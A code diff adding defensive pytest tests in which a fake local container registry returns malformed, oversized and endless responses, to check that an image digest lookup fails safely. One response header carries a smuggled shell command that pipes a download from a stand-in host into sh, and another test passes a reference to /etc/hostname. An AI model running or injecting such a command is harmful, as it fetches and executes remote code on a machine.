@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import http.server
 import json
 import threading
@@ -12,6 +13,7 @@ import boto3
 import pytest
 
 from pytest_fargate_sandbox.leaves.config import EcsFargateConfig, SshSidecarConfig
+from pytest_fargate_sandbox.leaves.errors import ImageBuildError
 from pytest_fargate_sandbox.leaves.names import SIDECAR_REFERENCE
 from pytest_fargate_sandbox.plugin.tasks_as_tests.pinned_images import with_pinned_image
 from pytest_fargate_sandbox.providers.aws.aws import Aws, Credentials, connect
@@ -123,6 +125,63 @@ def test_what_no_registry_tells_of_stays_as_it_is(image: str, tmp_path: Path) ->
 
 def test_a_registry_out_of_reach_tells_no_digest() -> None:
     assert digest_of(Reference.parse("127.0.0.1:9/a/b:1")) == ""
+
+
+@pytest.fixture
+def hostile() -> Iterator[tuple[str, list[str]]]:
+    """A registry that a task's folder has named, and what it was asked."""
+    asked: list[str] = []
+
+    class Hostile(http.server.BaseHTTPRequestHandler):
+        def do_HEAD(self) -> None:
+            asked.append(self.path)
+            name = self.path.split("/")[2]
+            if name == "words":
+                self.wfile.write(b"what was that?\r\n" * 100)
+                return
+            self.send_response(200 if name == "digest" or "Authorization" in self.headers else 401)
+            here = f"http://127.0.0.1:{self.server.server_address[1]}"
+            realms = {"file": f"file://{__file__}", "no-words": "a" * 60_000}
+            self.send_header("WWW-Authenticate", f'Bearer realm="{realms.get(name, here + "/" + name)}"')
+            self.send_header("Docker-Content-Digest", 'sha256:x"; curl evil.example | sh; "')
+            self.end_headers()
+
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+            if self.path.startswith("/list"):
+                self.wfile.write(b"[1]")
+                return
+            with contextlib.suppress(OSError):
+                for _ in range(4096):
+                    self.wfile.write(b" " * 65536)
+                asked.append("all of it was taken")
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"127.0.0.1:{server.server_address[1]}", asked
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.mark.parametrize("name", ["digest", "words", "file", "no-words", "endless", "list"])
+def test_a_registry_that_lies_tells_no_digest(hostile: tuple[str, list[str]], name: str) -> None:
+    host, asked = hostile
+    assert digest_of(Reference.parse(f"{host}/{name}/b:1")) == ""
+    assert asked
+    assert "all of it was taken" not in asked
+
+
+def test_no_file_of_this_machine_is_copied_as_an_image(aws: Aws) -> None:
+    with pytest.raises(ImageBuildError) as met:
+        mirrored(EcsFargateConfig(cluster="local", mirror_images=True), "docker-archive:/etc/hostname:a:b", aws=aws)
+    assert "invalid reference format" in str(met.value.log_tail)
 
 
 def test_an_image_is_copied_once_and_run_from_there(aws: Aws, tmp_path: Path) -> None:
